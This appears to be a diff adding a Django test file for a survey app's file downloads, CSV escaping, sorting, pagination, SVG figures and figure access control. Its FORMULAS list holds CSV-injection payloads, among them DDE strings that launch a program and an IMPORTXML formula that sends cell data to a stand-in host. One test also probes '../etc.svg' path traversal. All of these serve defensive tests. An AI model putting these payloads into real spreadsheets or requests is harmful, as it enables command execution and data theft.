@@ -1,0 +1,210 @@
+"""A file is saved under its name, whatever letters the name has."""
+
+from __future__ import annotations
+
+import json
+import re
+from html import unescape
+from itertools import combinations
+from xml.etree.ElementTree import Element
+
+import pytest
+from django.http import HttpResponse
+from django.test import Client
+from django.urls import reverse
+
+from surveys.accounts.permissions import Role
+from surveys.formats import svg
+from surveys.formats.files import (
+    attachment,
+    cell_of,
+    column,
+    csv_file,
+    figure_id,
+    journal_width,
+    json_file,
+    pages,
+    picture_file,
+    pictures_in,
+    records_as_csv,
+    safe_text,
+    whole_file,
+)
+from surveys.report.rule_rows import RuleQuery
+from tests.fixtures.drawn import Drawn
+from tests.fixtures.made_releases import made_release
+from tests.fixtures.runs import answered, mined
+from tests.fixtures.scale_runs import scale_answered
+from tests.fixtures.staff import member
+
+
+def test_a_name_of_plain_letters_is_written_as_it_is():
+    response = attachment(HttpResponse(b"1"), "sottovoce-run-1.zip")
+    assert response.headers["Content-Disposition"] == 'attachment; filename="sottovoce-run-1.zip"'
+    assert response.content == b"1"
+
+
+def test_a_name_cannot_end_the_header_and_keeps_letters_of_any_language():
+    quoted = attachment(HttpResponse(), 'a"b.csv').headers["Content-Disposition"]
+    assert quoted == 'attachment; filename="a\\"b.csv"'
+    chinese = attachment(HttpResponse(), "问卷.csv").headers["Content-Disposition"]
+    assert chinese == "attachment; filename*=utf-8''%E9%97%AE%E5%8D%B7.csv"
+
+
+def test_each_kind_of_file_has_its_type():
+    table = csv_file(iter(["a\n", "1\n"]), "a.csv")
+    assert (table.headers["Content-Type"], table.getvalue()) == (
+        "text/csv; charset=utf-8",
+        b"\xef\xbb\xbfa\n1\n",
+    )
+    document = json_file({"title": "问卷"}, "a.json")
+    assert "问卷" in document.content.decode()
+    assert json.loads(document.content) == {"title": "问卷"}
+    assert picture_file("<svg/>", "a.svg").headers["Content-Type"] == "image/svg+xml"
+    assert whole_file("x", "text/markdown", "a.md").headers["Content-Type"] == "text/markdown"
+
+
+# What spreadsheets have been seen to run, and texts that only look like it.
+FORMULAS = [
+    "=1+1",
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    '=HYPERLINK("http://example.org","x")',
+    "=IMPORTXML(CONCAT(\"http://example.org?\",A1),\"//a\")",
+]  # fmt: skip
+HARMLESS = ["affair", "age=22 & late", "a-b", "1+1", "é=1", "affair, 'quoted' \"twice\""]
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_no_cell_begins_like_a_formula(text: str) -> None:
+    assert safe_text(text) == "'" + text
+
+
+@pytest.mark.parametrize("text", HARMLESS)
+def test_harmless_texts_stay_as_they_are(text: str) -> None:
+    assert safe_text(text) == text
+
+
+def test_cells_are_plain_and_lines_hold_them_in_the_order_of_the_columns() -> None:
+    assert [cell_of(value) for value in (None, True, -0.5, "\r=1+1")] == ["", 1, -0.5, "'\r=1+1"]
+    lines = list(records_as_csv(("b", "a"), [{"a": "=1", "b": None}]))
+    assert lines == ["b,a\r\n", ",'=1\r\n"]
+
+
+def test_a_column_sorts_largest_first_and_then_turns_round() -> None:
+    assert column(RuleQuery(), "lift", "lift").address == "?sort=-lift"
+    turned = column(RuleQuery(sort="-lift"), "lift", "lift")
+    assert (turned.address, turned.direction) == ("?sort=lift", "descending")
+    assert column(RuleQuery(sort="lift"), "lift", "lift").direction == "ascending"
+
+
+def test_of_p_values_the_smallest_come_first_as_they_do_before_anything_is_sorted() -> None:
+    head = column(RuleQuery(sort="-lift"), "p_adjusted", "p, adjusted", rising_first=True)
+    assert head.address == "?"
+    head = column(RuleQuery(), "p_adjusted", "p, adjusted", rising_first=True)
+    assert (head.address, head.direction) == ("?sort=-p_adjusted", "ascending")
+
+
+def test_sorting_keeps_the_filter_and_goes_back_to_the_first_page() -> None:
+    assert column(RuleQuery(item=3, page=5), "error", "W").address == "?item=3&sort=-error"
+
+
+def test_the_first_and_the_last_page_lead_nowhere_further_and_one_beyond_is_the_last() -> None:
+    first, last, beyond = (pages(RuleQuery(page=page), count=101, size=50) for page in (1, 3, 9))
+    assert (first.previous, first.next) == ("", "?page=2")
+    assert (last.previous, last.next) == ("?page=2", "")
+    assert beyond == last
+    assert pages(RuleQuery(), count=0, size=50).pages == 1
+
+
+pytestmark = pytest.mark.django_db
+
+
+def browser(name: str, *roles: Role) -> Client:
+    client = Client()
+    client.force_login(member(name, *roles))
+    return client
+
+
+def addresses() -> dict[str, tuple[Client, str]]:
+    """Pages with pictures, each with who may read it."""
+    run, release = mined(answered()), made_release(member("owner", Role.RESEARCHER))
+    scales = mined(scale_answered(1_500))
+    ana, owner = browser("ana", Role.REVIEWER), browser("owner", Role.RESEARCHER)
+    return {
+        "results": (ana, reverse("report:results", args=[run.pk])),
+        "comparison": (ana, reverse("report:compare", args=[run.pk]) + "?outcome=cheat&by=late"),
+        "number": (ana, reverse("report:number", args=[scales.pk, "hours"])),
+        "map": (ana, reverse("report:place", args=[scales.pk, "care"])),
+        "smooth map": (ana, reverse("report:place", args=[scales.pk, "care"]) + "?smoothing=on"),
+        "itemsets": (ana, reverse("report:itemsets", args=[run.pk])),
+        "regression": (ana, reverse("report:regression", args=[run.pk]) + "?response=3&disguised=2"),
+        "release": (owner, reverse("releases:release", args=[release.pk])),
+    }
+
+
+def test_each_picture_has_its_files_on_white_with_letters_that_can_be_read() -> None:
+    seen, pages = set(), addresses()
+    for name, (client, address) in pages.items():
+        page = client.get(address).content.decode()
+        links = re.findall(r'href="([^"]*figure=[0-9a-f]{12}\.svg)"', page)
+        pictures = [(title, drawing) for title, drawing in pictures_in(page) if 'class="share' not in drawing]
+        assert len({title for title, _drawing in pictures}) == len(pictures), f"{name}: two of one title"
+        for title, drawing in pictures:
+            own = [link.replace("&amp;", "&") for link in links if figure_id(title) in link]
+            assert own, f"{name}: no file of {title}"
+            sent = client.get(address.split("?")[0] + own[0])
+            sheet = sent.content.decode()
+            width = journal_width(drawing)
+            assert sheet.startswith(f'<svg width="{width:g}mm"')
+            assert re.search(r'<rect width="[\d.]+" height="[\d.]+" fill="#ffffff"></rect>', sheet)
+            assert title in unescape(sheet)
+            assert width in (84, 120)
+            assert "attachment" in sent.headers["Content-Disposition"]
+            seen.add(name)
+    assert seen == set(pages)
+
+
+def segment(line: Element) -> tuple[tuple[float, float], ...]:
+    return tuple((float(line.attrib[f"x{end}"]), float(line.attrib[f"y{end}"])) for end in (1, 2))
+
+
+def test_letters_of_a_picture_lie_on_the_sheet_and_on_no_other_letters_or_lines() -> None:
+    for name, (client, address) in addresses().items():
+        for title, drawing in pictures_in(client.get(address).content.decode()):
+            drawn = Drawn(drawing)
+            for text in drawn.texts:
+                assert -2 <= text.left < text.right <= drawn.width + 2, (name, title, text)
+                assert -1 <= text.top < text.bottom <= drawn.height + 1, (name, title, text)
+            for text, other in combinations(drawn.texts, 2):
+                assert not text.meets(other), (name, title, text, other)
+            lines = [segment(line) for line in drawn.all("line") if line.get("class") != "grid"]
+            for text in drawn.texts:
+                assert not [line for line in lines if text.crossed_by(line)], (name, title, text)
+
+
+def test_a_figure_is_behind_the_door_of_its_page_and_a_wrong_one_is_not_there() -> None:
+    owner = member("owner", Role.RESEARCHER)
+    address = reverse("releases:release", args=[made_release(owner).pk])
+    page = browser("owner", Role.RESEARCHER).get(address).content.decode()
+    title, _drawing = next(pictures_in(page))
+    asked = {"figure": f"{figure_id(title)}.svg"}
+    assert browser("owner", Role.RESEARCHER).get(address, asked)["Content-Type"].startswith("image/svg+xml")
+    assert browser("rosa", Role.RESEARCHER).get(address, asked).status_code == 404
+    assert Client().get(address, asked).status_code == 302
+    for wrong in (f"{figure_id('no title')}.svg", "../etc.svg", f"{figure_id(title)}.exe"):
+        answer = browser("owner", Role.RESEARCHER).get(address, {"figure": wrong})
+        # What is no figure's name is left to the page, which knows no such field.
+        assert answer.status_code == (404 if re.fullmatch(r"[0-9a-f]{12}\.svg", wrong) else 200)
+        assert answer["Content-Type"].startswith("text/html")
+
+
+def test_a_picture_of_its_own_sheet_gets_no_second_one() -> None:
+    drawn = svg.rendered(svg.drawing(400, 200, title="t", paper=True))
+    assert svg.in_millimetres(drawn, 84).count("<rect") == 1
+    assert svg.in_millimetres(svg.rendered(svg.drawing(400, 200, title="t")), 84).count("<rect") == 1
